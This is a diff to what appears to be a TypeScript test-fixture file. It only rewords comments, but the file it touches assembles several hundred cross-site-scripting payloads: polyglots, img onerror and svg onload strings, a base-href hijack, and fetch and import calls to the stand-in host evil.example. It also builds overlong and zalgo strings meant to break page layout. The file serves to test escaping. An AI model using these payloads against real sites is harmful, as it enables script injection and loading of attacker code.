@@ -1,9 +1,9 @@
-// What people who mean harm write: texts that want to become markup or script somewhere, and texts that want to break the page.
+// Texts of an attacker: some try to become markup or script, others try to break the layout.
 
-/** What would run: a dialog, or a request to a stranger. */
+/** Code that would show itself: a dialog, or a request to another origin. */
 const runs = ['alert(1)', 'alert`1`', "fetch('//evil.example')", "import('//evil.example/x.js')"]
 
-/** Where the text could stand when nobody escapes it: between tags, in an attribute, in a script, in a style, in a comment. */
+/** Ways out of the places where an unescaped text could stand: between tags, in an attribute, script, style or comment. */
 const breakouts = [
   '',
   '">',
@@ -69,7 +69,7 @@ const carriers = [
   '<base href="//evil.example/"><script src=x.js>#</script>',
 ]
 
-/** Written one by one: encodings, template languages, markdown, addresses, dangling markup, mutations. */
+/** Collected by hand: encodings, template languages, markdown, addresses, dangling markup, mutations. */
 const listed = [
   'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>',
   '\'"><img src=x onerror=alert(String.fromCharCode(88,83,83))>',
@@ -146,7 +146,7 @@ const listed = [
   'https://evil.example/?x="onmouseover="alert(1)',
 ]
 
-/** More than six hundred, each its own text. */
+/** More than six hundred different texts. */
 export const scripts: readonly string[] = [
   ...new Set([
     ...breakouts.flatMap((breakout, row) =>
@@ -156,7 +156,7 @@ export const scripts: readonly string[] = [
   ]),
 ]
 
-/** At most 20 letters, as a codename may have; the fifth becomes `<svg onload=alert()>` when it is normalised. */
+/** At most 20 letters, like a codename. The fifth becomes `<svg onload=alert()>` when it is normalised. */
 export const scriptNames = [
   '<svg onload=alert()>',
   '"><script src=//x.y>',
@@ -170,11 +170,11 @@ export const scriptNames = [
 
 const repeat = (piece: string, letters: number) =>
   piece.repeat(Math.ceil(letters / piece.length)).slice(0, letters)
-/** Letters under towers of marks. */
+/** Letters with stacks of marks. */
 const zalgo = (text: string, marks: number) =>
   Array.from(text, (letter) => letter + repeat('\u0300\u0316\u0336\u0489\u035c', marks)).join('')
 
-/** Texts that want to be wider, higher or elsewhere than they may; each at most 1,000 letters, so that a comment can be one. */
+/** Texts that try to be wider or higher than their place, or to leave it. At most 1,000 letters each, so a comment can hold one. */
 export const shapes: readonly string[] = [
   repeat('W', 1_000),
   repeat('ﷺ﷽', 600),
@@ -202,5 +202,5 @@ export const shapes: readonly string[] = [
   repeat('\ud83c\udde6', 400).replace(/[\ud800-\udbff]$/, ''),
 ]
 
-/** The longest word that a post may be. */
+/** The longest word that fits into a post. */
 export const longestWord = 'Haaa'.padEnd(4_999, 'a') + 'y'
